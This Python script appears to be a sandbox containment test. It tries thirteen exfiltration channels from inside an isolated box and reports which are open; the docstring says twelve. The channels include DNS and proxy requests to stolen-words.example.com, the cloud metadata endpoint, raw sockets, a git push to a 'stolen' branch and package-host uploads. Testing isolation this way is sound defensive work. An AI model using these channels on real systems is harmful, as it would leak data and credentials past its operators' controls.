"""What a thief would try in the box to get a word out: twelve channels, and what came of each.

It is committed to the repository under attack. Argument: a JSON file with the ports and names at
which the test listens on the host.
"""

import json
import os
import socket
import subprocess
import sys
import urllib.request
from collections.abc import Callable
from functools import partial
from typing import Any

There = dict[str, Any]

WORD = b"stolen words"
SECONDS = 2


def tcp(there: There) -> None:
    for host in ("127.0.0.1", there["address"], "1.1.1.1"):
        reach(partial(socket.create_connection, (host, there["tcp"]), SECONDS))


def model(there: There) -> None:
    reach(lambda: socket.create_connection(("127.0.0.1", there["model"]), SECONDS))
    names = [f"/coppice/{name}" for name in listed("/coppice")]
    for name in (*names, *there["sockets"]):
        out = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        reach(partial(out.connect, name))


def forge(there: There) -> None:
    reach(lambda: socket.create_connection(("127.0.0.1", there["forge"]), SECONDS))


def udp(there: There) -> None:
    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for host in (there["address"], "127.0.0.1"):
        out.sendto(WORD, (host, there["udp"]))
    out.settimeout(SECONDS)
    out.recv(10)


def dns(there: There) -> None:
    socket.getaddrinfo("stolen-words.example.com", 443)


def proxy(there: There) -> None:
    address = os.environ.get("HTTP_PROXY") or f"http://127.0.0.1:{there['tcp']}"
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({"http": address}))
    opener.open("http://stolen-words.example.com/", timeout=SECONDS)


def abstract(there: There) -> None:
    out = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    out.connect(f"\0{there['abstract']}")


def metadata(there: There) -> None:
    urllib.request.urlopen("http://169.254.169.254/latest/meta-data/", timeout=SECONDS)


def ipv6(there: There) -> None:
    for host in ("::1", "2606:4700:4700::1111"):
        reach(partial(socket.create_connection, (host, there["tcp6"]), SECONDS))


def raw(there: There) -> None:
    out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    out.sendto(WORD, ("1.1.1.1", 0))


def packet(there: There) -> None:
    socket.socket(17, socket.SOCK_RAW, 3)


def push(there: There) -> None:
    made = subprocess.run(
        ["git", "push", f"http://127.0.0.1:{there['forge']}/x/y.git", "HEAD:refs/heads/stolen"],
        capture_output=True,
        check=False,
        timeout=20,
    )
    if made.returncode:
        raise OSError(made.stderr.decode()[:100])


def publish(there: There) -> None:
    for host in ("packages.example.com", "packages.example.net"):
        reach(partial(urllib.request.urlopen, f"https://{host}/", timeout=SECONDS))


CHANNELS = (
    *(tcp, udp, dns, proxy, abstract, metadata, forge, model, ipv6, raw, packet, push, publish),
)


def reach(way: Callable[[], object]) -> None:
    try:
        way()
    except OSError:
        return
    raise Reached


class Reached(Exception):
    pass


def listed(folder: str) -> list[str]:
    try:
        return os.listdir(folder)
    except OSError:
        return []


def say(line: str) -> None:
    sys.stdout.write(f"{line}\n")


def main() -> None:
    with open(sys.argv[1]) as file:
        there = json.load(file)
    for channel in CHANNELS:
        try:
            channel(there)
        except Reached:
            say(f"OPEN {channel.__name__}")
        except Exception as error:  # noqa: BLE001 whatever stops it, stops it
            say(f"blocked {channel.__name__}: {error!r}"[:150])
        else:
            closed = channel in (tcp, forge, model, ipv6, publish)
            say(f"{'blocked' if closed else 'OPEN'} {channel.__name__}")
    say(f"TRIED {len(CHANNELS)}")


if __name__ == "__main__":
    main()
